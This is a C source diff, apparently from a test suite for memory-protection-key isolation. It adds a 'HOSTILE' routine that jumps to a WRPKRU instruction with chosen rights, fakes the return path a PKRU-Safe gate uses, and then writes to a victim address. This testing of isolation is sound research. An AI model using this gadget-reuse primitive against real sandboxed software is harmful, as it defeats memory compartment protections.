@@ -62,4 +62,32 @@ HOSTILE(forge_frame) /* where it can be written, and jump */
     go(&jump);
 }
 
+/* Jumps to `target`, where a WRPKRU is, with these rights in eax, so that whatever the code behind
+ * it returns to or calls comes back here; then writes to the victim. */
+HOSTILE(take_rights)
+{
+    struct {
+        uint64_t target, rights, victim;
+    } taking = {0};
+    (void)output;
+    memcpy(&taking, input, input_length < sizeof(taking) ? input_length : sizeof(taking));
+    /* Registers that no gate touches. */
+    register uint64_t victim __asm__("r12") = taking.victim;
+    register uint64_t target __asm__("r13") = taking.target;
+    __asm__ volatile("mov %%rsp, %%rbx\n"
+                     "sub $128, %%rsp\n" /* the red zone */
+                     "lea 1f(%%rip), %%r11\n"
+                     "mov %%r11, %%r9\n" /* what a gate of PKRU-Safe calls */
+                     ".rept 16\n push %%r11\n .endr\n"
+                     "xor %%ecx, %%ecx\n"
+                     "xor %%edx, %%edx\n"
+                     "jmp *%0\n"
+                     "1: mov %%rbx, %%rsp\n"
+                     "movb $0x66, (%2)\n"
+                     :
+                     : "r"(target), "a"(taking.rights), "r"(victim)
+                     : "rbx", "rcx", "rdx", "r8", "r9", "r10", "r11", "memory");
+    return 0;
+}
+
 #endif
